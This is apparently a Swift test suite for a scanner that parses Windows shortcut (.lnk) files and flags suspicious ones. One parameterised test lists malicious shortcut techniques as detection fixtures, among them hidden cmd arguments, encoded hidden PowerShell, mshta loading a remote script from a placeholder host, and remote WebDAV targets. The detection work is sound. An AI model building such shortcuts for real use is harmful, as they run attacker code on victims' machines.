import LNK
import Pipeline
import PipelineTesting
import Testing

@Suite struct LNKTests {
    static let full: [UInt8] = {
        var link = LinkBuilder()
        link.items = [
            LinkBuilder.root(LinkBuilder.myComputer), LinkBuilder.volume("C:\\"),
            LinkBuilder.file("WINDOWS", "Windows", isDirectory: true), LinkBuilder.file("NOTEPA~1.EXE", "notepad.exe"),
        ]
        link.info = LinkBuilder.localInfo(path: "C:\\Windows\\notepad.exe", suffix: "", label: "System")
        link.strings = [
            (4, "Opens the list"), (8, "..\\notepad.exe"), (0x10, "C:\\Work"), (0x20, "C:\\Work\\list.txt"),
            (0x40, "%SystemRoot%\\notepad.exe"),
        ]
        link.blocks = [
            LinkBuilder.tracker(machine: "ws01"), LinkBuilder.environment("%SystemRoot%\\notepad.exe"),
            LinkBuilder.environment("%SystemRoot%\\notepad.exe", signature: 0xA000_0007),
            LinkBuilder.property(LinkBuilder.myComputer, id: 100, text: "S-1-5-21-1-2-3-1001"),
            LinkBuilder.block(0xA000_0005, le32(36) + le32(0x14)), LinkBuilder.block(0xA000_0004, le32(850)),
            LinkBuilder.block(0xA000_000B, LinkBuilder.myComputer + le32(0x14)),
        ]
        return link.bytes
    }()

    @Test func everyPartIsReadInOrder() {
        let output = scan(LNKStage(), Bytes(Self.full), path: "list.lnk", kind: "LNK")
        #expect(goldenDifference("full.txt", output.text) == nil)
    }

    @Test func stageConforms() {
        #expect(StageConformance(kind: "LNK").violations(of: LNKStage(), sample: Self.full) == [])
    }

    @Test func shareAndSuffixMakeTheTarget() throws {
        var link = LinkBuilder()
        link.info = LinkBuilder.shareInfo(share: "\\\\files\\team", device: "T:", suffix: "plans\\q3.xlsx")
        let parsed = try ShellLink(link.bytes.rawSpan)
        #expect(parsed.target == "\\\\files\\team\\plans\\q3.xlsx")
        #expect(parsed.info?.deviceName == "T:")
        #expect(parsed.problems == [])
    }

    @Test func narrowStringsAreReadInTheirOwnLength() throws {
        var link = LinkBuilder(isWide: false)
        link.strings = [(0x20, "/c dir"), (0x40, "shell32.dll")]
        let parsed = try ShellLink(link.bytes.rawSpan)
        #expect(parsed.arguments == "/c dir")
        #expect(parsed.iconLocation == "shell32.dll")
        #expect(parsed.size == link.bytes.count)
    }

    @Test func headerIsKeptWhenTheBodyIsBroken() throws {
        var bytes = Self.full
        // The item IDs claim more than the file has.
        bytes[0x4C] = 0xFF
        bytes[0x4D] = 0xFF
        let parsed = try ShellLink(bytes.rawSpan)
        #expect(parsed.header.fileSize == 4096)
        #expect(parsed.items.count >= 4)
        #expect(parsed.problems.map(\.code) == [.truncated])
    }

    // Found by reading: a block of eight bytes took several times that, a million of them too.
    @Test func manyBlocksAreNotAllRead() throws {
        var link = LinkBuilder()
        link.blocks = [[UInt8]](repeating: LinkBuilder.block(0xA000_00FF, []), count: 5000)
        let parsed = try ShellLink(link.bytes.rawSpan)
        #expect(parsed.extra.blocks.count == 256)
        #expect(parsed.problems.map(\.code) == [.limit])
    }

    @Test func somethingElseIsNoLink() {
        #expect(throws: ParseError(.badMagic, "", at: 0)) {
            try ShellLink([UInt8](repeating: 0x4C, count: 200).rawSpan)
        }
    }

    @Test(arguments: [
        ("LinkHiddenArguments", "C:\\Windows\\System32\\cmd.exe", String(repeating: " ", count: 300) + "/c calc", ""),
        ("LinkRunsHiddenPowerShell", "C:\\Windows\\powershell.exe", "-w hidden -enc SQBFAFgA", ""),
        ("LinkRunsScriptHost", "C:\\Windows\\System32\\mshta.exe", "http://a.example/x.hta", ""),
        ("LinkRemoteTarget", "\\\\a.example@SSL\\DavWWWRoot\\x.exe", "", ""),
        ("LinkAddressTarget", "\\\\10.0.0.1\\c$\\x.exe", "", ""),
        ("LinkIconMismatch", "C:\\Windows\\System32\\cmd.exe", "/c start", "C:\\x\\report.pdf"),
        ("LinkRemoteIcon", "C:\\x.exe", "", "\\\\10.0.0.2\\i\\x.ico"),
        ("LinkLongArguments", "C:\\x.exe", String(repeating: "a b ", count: 80), ""),
    ])
    func suspiciousLinksAreReported(id: String, target: String, arguments: String, icon: String) {
        var link = LinkBuilder()
        link.strings = [(0x20, arguments), (0x40, icon)].filter { !$0.1.isEmpty }
        link.blocks = [LinkBuilder.environment(target)]
        let output = scan(LNKStage(), Bytes(link.bytes), kind: "LNK")
        #expect(output.findings.flatMap(\.reasons).map(\.signature.ruleName).contains(id))
    }

    @Test func appendedDataIsCounted() {
        let output = scan(
            LNKStage(), Bytes(Self.full + [UInt8](repeating: 0x41, count: 5000)), kind: "LNK")
        #expect(output.records.first?.fields.first { $0.key == "appended_bytes" }?.value == "5000")
        #expect(output.findings.flatMap(\.reasons).map(\.signature.ruleName) == ["LinkAppendedData"])
    }
}
